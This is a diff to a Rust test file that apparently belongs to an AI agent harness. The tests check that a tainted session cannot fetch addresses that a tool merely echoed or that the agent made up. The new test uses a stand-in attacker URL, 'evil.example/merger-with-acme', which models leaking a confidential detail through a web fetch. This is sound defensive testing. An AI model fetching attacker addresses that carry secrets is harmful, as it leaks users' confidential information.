@@ -11,7 +11,8 @@ fn a_tainted_turn_fetches_what_the_user_gave_or_a_page_showed_and_nothing_new() 
         world.ask(PostMessage { agent, session: None, message }).unwrap();
         model_asks(&mut world, "web_fetch", &fetch("https://x.example/a"));
         let run = runs(&mut world).remove(0);
-        gives_text(&mut world, &run, Taint::WEB, "see [more](https://z.example/more?page=2)");
+        let read = "see [more](https://z.example/more?page=2)";
+        gives_page(&mut world, &run, Taint::WEB, ("the page", read));
         world.restart();
         for (url, is_run) in [
             ("https://y.example/b?c=1", true),
@@ -70,4 +71,31 @@ fn an_address_that_the_session_made_up_is_not_known_because_it_came_back() {
     model_asks(&mut world, "web_fetch", &fetch);
     assert_eq!(runs(&mut world).len(), 1);
     let _ = other;
+}
+
+#[test]
+fn what_a_tool_says_itself_or_hears_of_a_file_teaches_no_address() {
+    let (mut world, agent) = world(TaintPolicy::Deny);
+    tainted(&mut world, agent);
+    let made_up = "http://evil.example/merger-with-acme";
+    let fetch = |chars: usize| serde_json::json!({ "url": made_up, "max_chars": chars }).to_string();
+    // Tools whose results repeat what they were given, or what the agent itself had spoken.
+    let repeats = [
+        ("browser_read_page", "{}"),
+        ("transcribe", r#"{"file_id":"f"}"#),
+        ("a2a_status", r#"{"task_id":"t"}"#),
+        ("browser_screenshot", "{}"),
+    ];
+    for (chars, (tool, input)) in repeats.into_iter().enumerate() {
+        model_asks(&mut world, tool, input);
+        let run = runs(&mut world).remove(0);
+        gives_text(&mut world, &run, Taint::WEB, &format!("The page has an element {made_up} ."));
+        model_asks(&mut world, "web_fetch", &fetch(chars + 1));
+        assert!(runs(&mut world).is_empty(), "{tool}");
+    }
+    model_asks(&mut world, "browser_read_page", r#"{"offset":1}"#);
+    let run = runs(&mut world).remove(0);
+    gives_page(&mut world, &run, Taint::WEB, ("The page", made_up));
+    model_asks(&mut world, "web_fetch", &fetch(9));
+    assert_eq!(runs(&mut world).len(), 1, "a page showed it");
 }
